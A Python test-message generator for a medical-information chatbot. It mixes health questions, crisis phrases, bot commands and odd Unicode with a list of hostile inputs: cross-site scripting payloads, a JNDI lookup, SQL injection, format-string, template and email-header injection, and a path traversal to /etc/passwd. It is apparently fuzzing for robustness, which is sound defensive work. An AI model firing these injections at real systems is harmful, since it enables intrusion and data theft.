"""Make messages: what visitors say, what attackers say, and every corner of Unicode."""

from __future__ import annotations

import random
from collections.abc import Callable
from functools import lru_cache

from knowledge.content import content_files, read_content
from rareguide.settings import ROOT

QUESTIONS = (
    "what is {}?", "what causes {}", "how is {} treated?", "is {} inherited", "how common is {}", "{} symptoms",
    "life expectancy with {}?", "compare {} and {}", "do I have {}?", "should I stop my tablets for {}", "{}",
    "qué es {}?", "is it contagious", "and its treatment?", "the second one", "both", "2", "yes", "no", "skip",
)  # fmt: skip
ALARMS = (
    "my son is not breathing", "I want to die", "she swallowed bleach", "chest pain and my arm is numb",
    "i took all the pills", "no quiero vivir", "is trouble breathing a symptom of {}?",
)  # fmt: skip
COMMANDS = (
    "/restart", "/session_start", "/ask_causes", '/inform{{"condition": "{}"}}', "//restart", "\u200b/restart",
    "EXTERNAL: action_turn", '{{"event": "slot", "name": "condition", "value": "x"}}', "@ @ [x](y) /back",
)  # fmt: skip
HAND_OVER = (
    "I would like to talk to a person", "cancel", "Maria Lopez", "maria@larkfield.example", "+1 555 555 0100",
    "English", "my name is {}", "that's wrong", "change my name to {}", "is my ticket done?", "RG-7K3M0QXZ",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "[{}](javascript:alert(1))", "![x](data:text/html;base64,PHNjcmlwdD4=)", "{{7*7}}",
    "${{jndi:ldap://a.example}}", "' OR 1=1 --", "%s%n%x", "```\n{}\n```", "| a | b |\n|---|---|", "# {}\n\n> {}",
    "\r\nBcc: everybody@a.example\r\n\r\n", "[1][2][999]", "&lt;img src=x onerror=alert(1)&gt;", "../../etc/passwd",
)  # fmt: skip
ODD = (
    "\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\x00", "\x1b[2J", "\ud800", "\udfff",
    "\u0301" * 40, "\u1160", "\u2028", "\x85", "\uffff", "\U0010ffff", "ﷺ", "İ", "ß", "ŉ", "ǰ", "\u0345", "٣", "½", "²",
)  # fmt: skip


@lru_cache(maxsize=1)
def known_names() -> tuple[str, ...]:
    """Return the names and synonyms of the shipped conditions."""
    records = [read_content(path) for path in content_files(ROOT / "knowledge" / "content")]
    return tuple(name for record in records for name in (record.name, *record.synonyms))


def message(rng: random.Random) -> str:
    """Return one message."""
    kind = rng.random()
    if kind < 0.45:
        return _said(rng)
    if kind < 0.65:
        return " ".join(_said(rng) for _ in range(rng.randint(2, 4)))
    if kind < 0.80:
        return _spoilt(rng, _said(rng))
    if kind < 0.95:
        return any_text(rng)
    return _long(rng)


def any_text(rng: random.Random, longest: int = 60) -> str:
    """Return characters of one of several ranges, halves of surrogate pairs among them."""
    ranges: tuple[Callable[[], str], ...] = (
        lambda: chr(rng.randrange(0x80)),
        lambda: chr(rng.randrange(0x80, 0x3000)),
        lambda: chr(rng.randrange(0x3000, 0xE000)),
        lambda: chr(rng.randrange(0x110000)),
        lambda: rng.choice(ODD),
        lambda: rng.choice("?!.,;:'\"()[]{}<>/\\*_`#|-~@ \n\t"),
    )
    chosen = rng.sample(ranges, rng.randint(1, 3))
    return "".join(rng.choice(chosen)() for _ in range(rng.randint(0, longest)))


def _said(rng: random.Random) -> str:
    kinds = (QUESTIONS, QUESTIONS, QUESTIONS, ALARMS, COMMANDS, HAND_OVER, MARKUP)
    pattern = rng.choice(rng.choice(kinds))
    return pattern.format(_name(rng), _name(rng))


def _name(rng: random.Random) -> str:
    name = rng.choice(known_names()) if rng.random() < 0.8 else rng.choice(("Zorblat disease", "it", "Velmont's ü", ""))
    return _spoilt(rng, name) if rng.random() < 0.2 else name


def _spoilt(rng: random.Random, text: str) -> str:
    letters = list(text)
    for _ in range(rng.randint(1, 5)):
        at = rng.randint(0, len(letters))
        if rng.random() < 0.5 and letters:
            letters.pop(min(at, len(letters) - 1))
        else:
            letters.insert(at, rng.choice((rng.choice(ODD), chr(rng.randrange(32, 127)), " ")))
    spoilt = "".join(letters)
    return rng.choice((spoilt, spoilt.upper(), spoilt.swapcase(), spoilt.replace(" ", "")))


def _long(rng: random.Random) -> str:
    piece = rng.choice((_said(rng), any_text(rng, 10), "a", " ", "and ", "not ", "(", "1,", "a@", "-", "?", "i "))
    return (piece or "x") * rng.randint(1, max(1, 6000 // max(1, len(piece))))
